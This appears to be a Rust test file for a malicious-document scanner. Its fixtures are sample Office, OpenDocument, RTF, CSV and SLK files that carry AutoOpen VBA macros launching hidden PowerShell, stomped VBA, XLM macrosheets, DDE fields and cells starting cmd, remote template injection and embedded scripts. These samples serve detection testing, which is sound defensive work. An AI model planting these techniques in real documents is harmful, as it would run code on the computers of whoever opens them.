//! Office Open XML, OpenDocument, documents as one XML file, RTF, text formats.

use pollwarden_payload::{ActKind::*, Audience, FileKind};

use crate::build::*;
use crate::{fires, look, quiet};

const DOWNLOADER: &str =
    "Sub AutoOpen()\r\n  CreateObject(\"WScript.Shell\").Run \"powershell -w hidden\"\r\nEnd Sub\r\n";

#[test]
fn a_macro_in_a_document() {
    let found = fires("plan.docm", &docm(DOWNLOADER), &[VbaMacro, AutoRun, RiskyCall]);
    assert!(found.bears_macro());
    assert_eq!(found.kind, FileKind::WordOoxml);
    // The project under another name is one all the same.
    let hidden =
        package(&[("word/document.xml", b"<a/>"), ("word/printerSettings1.xml", &vba_project(DOWNLOADER, b""))]);
    fires("plan.docx", &hidden, &[VbaMacro]);
    let picture = package(&[("word/document.xml", b"<a/>"), ("word/media/image1.emf", &vba_project(DOWNLOADER, b""))]);
    fires("plan.docx", &picture, &[VbaMacro]);
}

#[test]
fn a_project_without_code_is_quiet() {
    quiet("plan.docm", &docm("Attribute VB_GlobalNameSpace = False\r\nOption Explicit\r\n"));
}

#[test]
fn source_removed_while_the_compiled_form_stays() {
    let compiled = b"\x01\x16\x03\0AutoOpen\0\0WScript.Shell\0powershell\0";
    let project = vba_project("' nothing here\r\n", compiled);
    let found = fires(
        "plan.docm",
        &package(&[("word/document.xml", b"<a/>"), ("word/vbaProject.bin", &project)]),
        &[StompedVba],
    );
    assert!(found.bears_macro());
    let honest = vba_project(DOWNLOADER, compiled);
    assert!(!look("vbaProject.bin", &honest).has(StompedVba));
}

#[test]
fn macro_sheets() {
    let sheet =
        "<xm:macrosheet xmlns:xm=\"xm\"><sheetData><c r=\"A1\"><f>EXEC(\"calc\")</f></c></sheetData></xm:macrosheet>";
    let book = "<workbook><sheets><sheet name=\"a\" state=\"veryHidden\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">a!$A$1</definedName></definedNames></workbook>";
    let parts: &[(&str, &[u8])] = &[("xl/workbook.xml", book.as_bytes()), ("xl/other/x.xml", sheet.as_bytes())];
    let found = fires("plan.xlsm", &package(parts), &[XlmMacro, AutoRun]);
    assert!(found.has(HiddenSheet) && found.bears_macro());
    let by_relation = relationship("xlMacrosheet", "x.bin", false).replace("officeDocument", "office");
    fires("plan.xlsb", &package(&[("xl/_rels/workbook.bin.rels", by_relation.as_bytes())]), &[XlmMacro]);
}

#[test]
fn a_workbook_with_formulas_is_quiet() {
    let book = "<workbook><sheets><sheet name=\"Totals\" state=\"hidden\"/></sheets><definedNames><definedName name=\"_xlnm.Print_Area\">a</definedName></definedNames></workbook>";
    let sheet = "<worksheet><sheetData><row><c><f>SUM(A1:A9)&amp;\"|!\"</f></c></row></sheetData></worksheet>";
    let links = relationship("hyperlink", "https://county.example/results", true);
    let parts: &[(&str, &[u8])] = &[
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/worksheets/a.xml", sheet.as_bytes()),
        ("xl/worksheets/_rels/a.xml.rels", links.as_bytes()),
    ];
    let found = quiet("totals.xlsx", &package(parts));
    assert_eq!(found.links[0].url, "https://county.example/results");
}

#[test]
fn fields_that_start_a_program() {
    let runs = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    let found = fires("a.docx", &docx(runs), &[Dde]);
    assert!(found.bears_macro());
    fires("a.docx", &docx("<w:fldSimple w:instr=\" DDE excel book a1 \"/>"), &[Dde]);
    let quoted = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:fldSimple w:instr=\"QUOTE 68 68 69 65 85 84 79\"/><w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    fires("a.docx", &docx(quoted), &[Dde]);
    fires(
        "a.xml",
        format!(
            "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>{}",
            body_xml(runs).trim_start_matches("<?xml version=\"1.0\"?>")
        )
        .as_bytes(),
        &[Dde],
    );
    // The same part in UTF-16, which Word reads too.
    let mut wide_xml = vec![0xff, 0xfe];
    wide_xml.extend(wide(&body_xml(runs)));
    fires("a.docx", &package(&[("word/document.xml", &wide_xml)]), &[Dde]);
}

#[test]
fn ordinary_fields_and_links_are_quiet() {
    let links = relationship("hyperlink", "https://county.example/", true);
    let body = body_xml(
        "<w:fldSimple w:instr=\" PAGE \"/><w:fldSimple w:instr=\"HYPERLINK &quot;https://county.example/&quot;\"/><w:t>DDEAUTO</w:t>",
    );
    let parts: &[(&str, &[u8])] =
        &[("word/document.xml", body.as_bytes()), ("word/_rels/document.xml.rels", links.as_bytes())];
    let found = quiet("letter.docx", &package(parts));
    assert_eq!(found.links.len(), 1);
}

#[test]
fn cells_that_start_a_program() {
    let link = "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>";
    let found = fires(
        "a.xlsx",
        &package(&[("xl/workbook.xml", b"<workbook/>"), ("xl/externalLinks/externalLink1.xml", link.as_bytes())]),
        &[Dde],
    );
    assert!(found.bears_macro());
    let name =
        b"<workbook><definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames></workbook>";
    fires("a.xlsx", &package(&[("xl/workbook.xml", name)]), &[Dde]);
    let mut record = vec![0xe8, 0x02];
    let mut body = vec![1, 0];
    for text in ["cmd", "/c calc"] {
        body.extend(le4(text.len()));
        body.extend(wide(text));
    }
    record.push(u8::try_from(body.len()).unwrap());
    record.extend(body);
    fires("a.xlsb", &package(&[("xl/workbook.bin", b""), ("xl/externalLinks/externalLink1.bin", &record)]), &[Dde]);
    fires("a.csv", b"name,votes\nx,=cmd|' /C calc'!A0\n", &[Dde]);
    fires("a.xls", b"name\tvotes\nx\t=cmd|' /C calc'!A0\n", &[Dde]);
    fires("a.slk", b"ID;P\nC;X1;Y1;K0;Ecmd|'/c calc'!A0\nE\n", &[Dde]);
    fires("a.xml", b"<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/></Workbook>", &[Dde]);
    quiet("a.csv", b"a,b\n\"yes|no\",=A1+B1\nhttps://county.example/,-5\n");
    quiet("a.slk", b"ID;P\nC;X1;Y1;K3;ESUM(R1C1:R2C2)\nE\n");
}

#[test]
fn an_old_text_format_that_runs_macros() {
    fires(
        "a.slk",
        b"ID;P\nO;E\nNN;NAuto_open;ER1C1;KOut Flank;F\nC;X1;Y1;K0;EEXEC(\"calc\")\nE\n",
        &[XlmMacro, AutoRun],
    );
    fires("a.iqy", b"WEB\r\n1\r\nhttps://a.example/q\r\n", &[ExternalLink]);
}

#[test]
fn a_template_from_elsewhere() {
    let remote = relationship("attachedTemplate", "https://a.example/t.dotm", true);
    let parts: &[(&str, &[u8])] =
        &[("word/document.xml", b"<a/>"), ("word/_rels/settings.xml.rels", remote.as_bytes())];
    let found = fires("a.docx", &package(parts), &[TemplateInjection]);
    assert!(found.bears_macro() && found.all_acts().any(|act| act.shown == "hxxps://a[.]example/t.dotm"));
    let local = relationship("attachedTemplate", "file:///C:\\Users\\clerk\\Normal.dotm", true);
    let parts: &[(&str, &[u8])] = &[("word/document.xml", b"<a/>"), ("word/_rels/settings.xml.rels", local.as_bytes())];
    quiet("a.docx", &package(parts));
    fires("a.rtf", b"{\\rtf1{\\*\\template https://a.example/t.dotm}}", &[TemplateInjection]);
    quiet("a.rtf", b"{\\rtf1{\\*\\template C:\\\\Letters\\\\Plain.dot}Dear voter}");
}

#[test]
fn things_fetched_from_elsewhere() {
    for (kind, target) in [
        ("oleObject", "https://a.example/x.htm!"),
        ("frame", "https://a.example/f"),
        ("image", "file://files.example/x.png"),
        ("oleObject", "mhtml:https://a.example/x!y"),
    ] {
        let rels = relationship(kind, target, true);
        fires(
            "a.docx",
            &package(&[("word/document.xml", b"<a/>"), ("word/_rels/document.xml.rels", rels.as_bytes())]),
            &[ExternalLink],
        );
    }
    let picture = relationship("image", "https://county.example/seal.png", true);
    let found = look(
        "a.docx",
        &package(&[("word/document.xml", b"<a/>"), ("word/_rels/document.xml.rels", picture.as_bytes())]),
    );
    assert_eq!(found.audience(), Some(Audience::Analyst));
}

#[test]
fn files_packed_in_documents() {
    let object = compound(&[("\u{1}Ole10Native", &native("run.js", b"new ActiveXObject('WScript.Shell')"))]);
    let found = fires(
        "a.docx",
        &package(&[("word/document.xml", b"<a/>"), ("word/embeddings/oleObject1.bin", &object)]),
        &[EmbeddedObject, Script],
    );
    assert!(found.walk().any(|file| file.path == "a.docx › word/embeddings/oleObject1.bin › run.js"));
    // A workbook behind a chart is no packed file.
    let chart = package(&[("xl/workbook.xml", b"<workbook/>")]);
    quiet("a.docx", &package(&[("word/document.xml", b"<a/>"), ("word/embeddings/Sheet1.xlsx", &chart)]));
    let object =
        package(&[("word/document.xml", b"<a/>"), ("word/activeX/activeX1.xml", b"<ax:ocx ax:classid=\"{x}\"/>")]);
    assert!(look("a.docx", &object).has(ActiveX));
}

#[test]
fn documents_as_one_xml_file() {
    use base64::Engine;
    let encode = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    let project = vba_project(DOWNLOADER, b"");
    let flat = format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>{}</pkg:binaryData></pkg:part></pkg:package>",
        encode(&project)
    );
    fires("a.xml", flat.as_bytes(), &[VbaMacro]);
    let mut mime = b"ActiveMime".to_vec();
    mime.resize(0x32, 0);
    mime.extend(zlib(&compound(
        &vba_streams("Macros/", DOWNLOADER, b"")
            .iter()
            .map(|(path, bytes)| (path.as_str(), bytes.as_slice()))
            .collect::<Vec<_>>(),
    )));
    let old = format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument><w:binData w:name=\"editdata.mso\">{}</w:binData></w:wordDocument>",
        encode(&mime)
    );
    fires("a.doc", old.as_bytes(), &[VbaMacro]);
    let saved = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Hello</p>\r\n--b\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\nContent-Location: editdata.mso\r\n\r\n{}\r\n--b--\r\n",
        encode(&mime)
    );
    fires("a.doc", saved.as_bytes(), &[VbaMacro]);
}

#[test]
fn open_documents() {
    let types: (&str, &[u8]) = ("mimetype", b"application/vnd.oasis.opendocument.text");
    let module =
        b"<?xml version=\"1.0\"?><script:module script:name=\"M\">Sub Main\nShell(\"calc\")\nEnd Sub</script:module>";
    let text = b"<office:document-content><text:a xlink:href=\"https://county.example/\"/></office:document-content>";
    fires("a.odt", &zipped(&[types, ("content.xml", text), ("Basic/Standard/M.xml", module)]), &[VbaMacro]);
    quiet("a.odt", &zipped(&[types, ("content.xml", text)]));
    let dde = b"<office:document-content><text:dde-connection-decl office:dde-application=\"cmd\" office:dde-topic=\"/c calc\"/></office:document-content>";
    fires("a.odt", &zipped(&[types, ("content.xml", dde)]), &[Dde]);
    let manifest = b"<manifest:manifest><manifest:encryption-data/></manifest:manifest>";
    fires(
        "a.odt",
        &zipped(&[types, ("content.xml", b"xx"), ("META-INF/manifest.xml", manifest)]),
        &[EncryptedDocument],
    );
}

#[test]
fn rich_text() {
    let object = rtf_package("run.vbs", b"CreateObject(\"WScript.Shell\")");
    let packed = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {object}}}}}}}");
    fires("a.rtf", packed.as_bytes(), &[EmbeddedObject, Script]);
    let equation =
        format!("{{\\rtf1{{\\object\\objemb\\objupdate{{\\*\\objdata {}}}}}}}", rtf_object("Equation.3", b"x"));
    let found = fires("a.doc", equation.as_bytes(), &[RtfObject]);
    assert!(found.all_acts().any(|act| act.shown == "Equation.3"));
    let hidden: String =
        object.as_bytes().chunks(2).map(|two| format!("{}{{\\zz}}", std::str::from_utf8(two).unwrap())).collect();
    fires(
        "a.doc",
        format!("{{\\rt{{\\object{{\\*\\objdata {hidden}}}}}}}").as_bytes(),
        &[RtfObfuscation, EmbeddedObject],
    );
    fires("a.rtf", b"{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\\\\\cmd.exe}}{\\fldrslt x}}}", &[Dde]);
    quiet("a.rtf", b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\field{\\*\\fldinst HYPERLINK \"https://county.example/\"}{\\fldrslt x}}Dear voter, DDEAUTO is a field.\\par}");
}
